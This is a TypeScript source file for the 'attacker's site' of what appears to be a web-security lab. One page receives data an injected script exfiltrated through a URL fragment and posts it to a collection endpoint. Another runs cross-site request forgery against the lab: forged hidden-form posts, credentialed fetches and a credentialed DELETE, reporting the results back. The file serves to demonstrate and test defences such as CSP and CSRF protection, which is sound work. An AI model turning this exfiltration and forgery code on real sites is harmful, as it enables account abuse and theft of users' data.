import type { LabAddresses } from "@/attacker/replay";

/** Text made safe for HTML, attributes included. */
function escapeHtml(text: string): string {
  return text.replace(/[&<>"']/g, (character) => `&#${character.charCodeAt(0)};`);
}

function page(title: string, body: string, script: string): string {
  return `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>${escapeHtml(title)}</title>
<style>body{font:15px/1.5 system-ui,sans-serif;max-width:52rem;margin:2rem auto;padding:0 1rem;background:#fff7ed;color:#431407}
h1{color:#9a3412}pre{white-space:pre-wrap;word-break:break-all;background:#ffedd5;padding:.75rem;border-radius:.5rem}
iframe{width:1px;height:1px;border:0}</style></head>
<body><p><strong>The attacker's site</strong>: another origin than the lab, for the lab's demonstration.</p>
${body}
<script>${script}</script></body></html>`;
}

/**
 * Where the injected script sends what it took. The site's CSP (connect-src 'self') stops a fetch to this origin,
 * so the script opens this page instead, with the loot in the URL fragment (never sent over the network by the browser);
 * this page, on the attacker's own origin, posts it to /collect, and shows what the replay from outside did.
 */
export function lootPage(): string {
  return page(
    "Attacker: what the injected script sent",
    `<h1>What the injected script sent, replayed from outside the browser</h1>
<p id="status" role="status">Waiting for the loot…</p>
<pre id="result" aria-label="Replay result"></pre>`,
    `(async () => {
  const status = document.getElementById("status");
  const fragment = location.hash.slice(1);
  history.replaceState(null, "", location.pathname);
  if (!fragment) { status.textContent = "Nothing was sent."; return; }
  try {
    const loot = new TextDecoder().decode(Uint8Array.from(atob(fragment.replace(/-/g, "+").replace(/_/g, "/")), (c) => c.charCodeAt(0)));
    const response = await fetch("/collect", { method: "POST", headers: { "content-type": "application/json" }, body: loot });
    const result = await response.json();
    document.getElementById("result").textContent = JSON.stringify(result, null, 2);
    status.textContent = response.ok ? "Replayed." : "The attacker's site could not read the loot.";
    document.body.dataset.done = "true";
  } catch (error) {
    status.textContent = "The loot could not be read: " + error;
  }
})();`,
  );
}

/** One form the attacker page posts across sites: where, and the fields a real page of the lab would send. */
export type ForgedForm = { id: string; label: string; action: string; fields: [string, string][] };

function formHtml(form: ForgedForm): string {
  const inputs = form.fields
    .map(([name, value]) => `<input type="hidden" name="${escapeHtml(name)}" value="${escapeHtml(value)}">`)
    .join("");
  return `<form id="${form.id}" method="post" action="${escapeHtml(form.action)}" target="${form.id}-frame" enctype="multipart/form-data">${inputs}</form>
<iframe name="${form.id}-frame" title="${escapeHtml(form.label)}"></iframe>`;
}

/**
 * The cross-site request forgery attempts, run by a page on this origin in the person's browser: two forged form
 * posts to cookie-authenticated actions, a credentialed fetch to the backend-for-frontend, a credentialed DELETE
 * (sign out everywhere), and an API call without a token. It reports what it could observe to /csrf-result.
 */
export function csrfPage(lab: LabAddresses, forms: ForgedForm[]): string {
  const attempts = JSON.stringify({
    forms: forms.map(({ id, label, action }) => ({ id, label, target: action })),
    bff: `${lab.siteOrigin}/api/bff/api/me`,
    signOutEverywhere: `${lab.siteOrigin}/api/devices`,
    api: `${lab.apiUrl}/me`,
  }).replace(/</g, "\\u003c");
  return page(
    "Attacker: cross-site requests",
    `<h1>Cross-site requests against the lab</h1>
<p>This page, on another site, makes your browser send requests to the lab. What it could see of each:</p>
${forms.map(formHtml).join("\n")}
<p id="status" role="status">Running…</p>
<pre id="result" aria-label="What the attacker saw"></pre>`,
    `(async () => {
  const plan = ${attempts};
  const seen = [];
  // A frame's load fires even when the lab's answer may not be framed; the cap only keeps a stuck frame from stalling the page.
  const loaded = (frame) => new Promise((resolve) => { frame.addEventListener("load", () => resolve("loaded"), { once: true }); setTimeout(() => resolve("no answer in 10 s"), 10000); });
  for (const form of plan.forms) {
    const frame = document.querySelector('iframe[name="' + form.id + '-frame"]');
    const done = loaded(frame);
    document.getElementById(form.id).submit();
    seen.push({ attempt: form.id, target: form.target, kind: "form post", observed: "sent; the answer is another site's, unreadable here (" + (await done) + ")" });
  }
  const tryFetch = async (attempt, kind, url, init) => {
    try {
      const response = await fetch(url, init);
      seen.push({ attempt, target: url, kind, observed: "read the answer: HTTP " + response.status + " " + (await response.text()).slice(0, 200) });
    } catch (error) {
      seen.push({ attempt, target: url, kind, observed: "the browser refused to hand over the answer (" + String(error) + ")" });
    }
  };
  await tryFetch("bff-read", "fetch with credentials", plan.bff, { credentials: "include" });
  await tryFetch("sign-out-everywhere", "fetch DELETE with credentials", plan.signOutEverywhere, { method: "DELETE", credentials: "include" });
  await tryFetch("api-without-token", "fetch without a token", plan.api, {});
  document.getElementById("result").textContent = JSON.stringify(seen, null, 2);
  const reported = await fetch("/csrf-result", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ attempts: seen }) });
  document.getElementById("status").textContent = reported.ok ? "Done: reported to the attacker's site." : "Done, but the report was refused.";
  document.body.dataset.done = "true";
})();`,
  );
}

/** The hidden fields of the lab's mode switch form, read from its public settings page as any visitor (or attacker) can. */
export async function modeSwitchFormFields(siteOrigin: string): Promise<[string, string][]> {
  const html = await fetch(`${siteOrigin}/settings`)
    .then((response) => (response.ok ? response.text() : ""))
    .catch(() => "");
  const fields: [string, string][] = [];
  for (const match of html.matchAll(/<input[^>]*type="hidden"[^>]*>/g)) {
    const name = /name="([^"]*)"/.exec(match[0])?.[1];
    const value = /value="([^"]*)"/.exec(match[0])?.[1] ?? "";
    if (name?.startsWith("$ACTION")) fields.push([decodeEntities(name), decodeEntities(value)]);
  }
  return fields;
}

function decodeEntities(text: string): string {
  return text
    .replace(/&quot;/g, '"')
    .replace(/&#x27;/g, "'")
    .replace(/&#39;/g, "'")
    .replace(/&lt;/g, "<")
    .replace(/&gt;/g, ">")
    .replace(/&amp;/g, "&");
}
